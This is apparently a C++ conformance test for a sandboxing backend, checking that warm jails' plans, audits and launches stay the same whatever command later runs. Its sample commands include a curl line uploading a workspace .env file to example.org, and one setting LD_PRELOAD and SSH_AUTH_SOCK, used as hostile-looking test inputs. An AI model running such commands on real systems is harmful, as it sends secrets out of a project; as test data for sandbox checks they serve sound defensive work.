#include <loom/codec.h>
#include <loom/stage2_control.h>

#include <algorithm>

#include "../scene.h"

namespace loom::conformance {
namespace {

// As different as commands get. Well-known names are among them: whoever looks at the command looks
// for those.
std::vector<Command> commands_in(const Place& place) {
  return {{.argv = {"true"}, .environment = {"PATH=/usr/bin:/bin"}, .cwd = place.at("work")},
          {.argv = {"curl", "-T", place.at("work/.env"), "https://example.org/"},
           .environment = {"HTTPS_PROXY=http://127.0.0.1:3128", "PATH=/bin"},
           .cwd = {}},
          {.argv = {"/bin/sh", "-c", "git push; npm install; pip install x"},
           .environment = {"HOME=" + place.at("work"), "LD_PRELOAD=/x.so", "SSH_AUTH_SOCK=/x"},
           .cwd = "/"},
          {.argv = {"python3", "", "two words", "\xFF\xFE", std::string(40'000, 'x')},
           .environment = {},
           .cwd = place.at("elsewhere")}};
}

// What a backend answers about one command.
struct Outcome {
  Command command{};
  Result<JailPlan> plan;
  Audit audit{};
  std::optional<LaunchSpec> launch{};

  // Whether the host keeps this answer for the next command.
  [[nodiscard]] bool is_kept() const {
    return launch && launch->commit == encode(CommitDocument{.argv = command.argv,
                                                             .environment = command.environment,
                                                             .cwd = command.cwd});
  }
};

Result<Outcome> outcome_of(const Instance& backend, const PlanRequest& request) {
  Outcome outcome{.command = request.command, .plan = backend.plan(request)};
  if (!outcome.plan) return outcome;
  LOOM_TRY(outcome.audit, backend.audit(*outcome.plan));
  if (!outcome.plan->to_make.empty()) return outcome;
  LOOM_TRY(outcome.launch, backend.render(*outcome.plan));
  return outcome;
}

// The first part of a plan in which the two differ; null when there is none. `backend` holds what
// render is told, and the command with it.
const char* difference(const JailPlan& one, const JailPlan& other) {
  if (one.view != other.view) return "view";
  if (one.canonical_argv != other.canonical_argv) return "canonical_argv";
  if (one.digest != other.digest) return "digest";
  if (one.notes != other.notes) return "notes";
  if (one.to_make != other.to_make) return "names to make";
  return one.filter != other.filter ? "filter" : nullptr;
}

const char* difference(const LaunchSpec& one, LaunchSpec other) {
  other.commit = one.commit;
  if (one.memory_files != other.memory_files) return "memory files";
  if (one.argv != other.argv || one.environment != other.environment) return "command line";
  return one != other ? "launch" : nullptr;
}

void compare(const std::string& name, const Outcome& one, const Outcome& other,
             Judgement& judgement) {
  const std::string what = name + ": for \"" + other.command.argv.front() + "\" instead of \"" +
                           one.command.argv.front() +
                           "\", with another environment, directory and nonce, ";
  if (one.plan.has_value() != other.plan.has_value()) {
    const auto& refused = one.plan ? other.plan : one.plan;
    return judgement.breach(
        what + "the plan is one that is refused, or no longer: " + refused.error().message);
  }
  if (!one.plan) return;
  if (const char* part = difference(*one.plan, *other.plan)) {
    judgement.breach(what + "the plan has another " + part);
  }
  if (one.audit != other.audit) judgement.breach(what + "the audit is another");
  // Whoever is asked for every command may render each as it likes.
  if (!one.is_kept() && !other.is_kept()) return;
  if (one.is_kept() != other.is_kept()) {
    return judgement.breach(what + "the commit says more, or less, than the command");
  }
  if (const char* part = difference(*one.launch, *other.launch)) {
    judgement.breach(what + "the launch has another " + part);
  }
}

// Machines on which jails of this backend may wait for their commands.
std::vector<ImaginedMachine> warm_machines(const Scene& scene, Judgement& judgement) {
  std::vector<ImaginedMachine> machines = imagined_machines(scene, judgement);
  std::erase_if(machines, [&scene](const ImaginedMachine& machine) {
    const auto found = scene.backend().features(machine.facts);
    return !found || !found->can_warm;
  });
  if (machines.empty()) judgement.remark("can_warm is said on no machine");
  return machines;
}

// Whether the host would keep an answer to this question.
bool judge_question(const Scene& scene, PlanRequest request, const std::string& name,
                    Judgement& judgement) {
  std::optional<Outcome> first;
  for (const Command& command : commands_in(scene.place())) {
    request.command = command;
    request.nonce += "x";
    auto outcome = outcome_of(scene.backend(), request);
    if (!outcome) {
      judgement.breach(name + ": " + outcome.error().message);
      return false;
    }
    if (first) {
      compare(name, *first, *outcome, judgement);
    } else {
      first = std::move(*outcome);
    }
  }
  return first->is_kept();
}

void judge_commands(const Subject& subject, Judgement& judgement) {
  const auto scene = Scene::open(subject, judgement);
  if (!scene) return;
  const auto machines = warm_machines(*scene, judgement);
  bool kept = machines.empty();
  for (const NamedPolicy& named : policies_for(scene->place(), kSeed, 12)) {
    const auto here = scene->question(named.policy);
    if (!here) return judgement.breach("survey: " + here.error().message);
    if (here->private_scratch) continue;  // another one for every run
    for (const ImaginedMachine& machine : machines) {
      kept = judge_question(*scene, question_on(machine, *here),
                            "\"" + named.name + "\" on " + machine.name, judgement) ||
             kept;
    }
  }
  if (!kept) judgement.remark("can_warm is said, and no launch is one for other commands too");
}

Bytes whom_to_signal(const Scene& scene) {
  const TargetsRequest request{
      .rung = Rung::kTerm,
      .child = 1,
      .jailed_pids = true,
      .launched = true,
      .table = {{.pid = 1, .parent = 0, .birth = 1}, {.pid = 2, .parent = 1, .birth = 2}}};
  return scene.backend().call(Verb::kTargets, encode(request)).out;
}

// What the backend says to everything but start; the statuses too.
std::vector<Answer> ask_everything(const Scene& scene) {
  std::vector<Answer> answers = {scene.backend().call(Verb::kPieces, ByteView()),
                                 scene.backend().call(Verb::kFeatures, encode(scene.facts()))};
  for (const NamedPolicy& named : policies_for(scene.place(), kSeed, 2)) {
    const auto request = scene.question(named.policy);
    if (!request) continue;
    answers.push_back(scene.backend().call(
        Verb::kSurvey, encode(SurveyRequest{.policy = named.policy, .facts = scene.facts()})));
    answers.push_back(scene.backend().call(Verb::kPlan, encode(*request)));
    const auto plan = decode_jail_plan(answers.back().out);
    if (!plan) continue;
    answers.push_back(scene.backend().call(Verb::kAudit, encode(*plan)));
    answers.push_back(scene.backend().call(Verb::kRender, encode(*plan)));
  }
  return answers;
}

void judge_between(const Subject& subject, Judgement& judgement) {
  const auto scene = Scene::open(subject, judgement);
  if (!scene) return;
  const auto found = scene->backend().features(scene->facts());
  if (!found || !found->can_warm) return judgement.remark("can_warm is not said here");
  const auto request = scene->question(plain_policy(scene->place()));
  const auto plan = request ? scene->backend().plan(*request) : fail(ErrorCode::kBackend, "survey");
  const auto launch = plan ? scene->backend().render(*plan) : fail(ErrorCode::kBackend, "plan");
  if (!launch) return judgement.breach("a plain policy: " + launch.error().message);
  const std::vector<Answer> before = ask_everything(*scene);
  const auto started = scene->backend().start(*launch);
  if (!started) return judgement.breach("start: " + started.error().message);
  const Bytes targets = whom_to_signal(*scene);
  if (ask_everything(*scene) != before) {
    judgement.breach("while a jail waits for its command, questions get other answers than before");
  }
  if (whom_to_signal(*scene) != targets) {
    judgement.breach("questions about other commands change whom a waiting jail's end signals");
  }
  if (scene->host().spawned.size() != 1) {
    judgement.breach("something is spawned for a question while a jail waits");
  }
  scene->backend().finish();
}

}  // namespace

std::vector<Check> warm_checks() {
  return {
      {"warm.any-command",
       "Where jails may wait, only the commit depends on the command: no plan, audit or launch, "
       "nor the nonce.",
       judge_commands, 300},
      {"warm.between",
       "Where jails may wait, every verb but start may be called between start and commit.",
       judge_between},
  };
}

}  // namespace loom::conformance
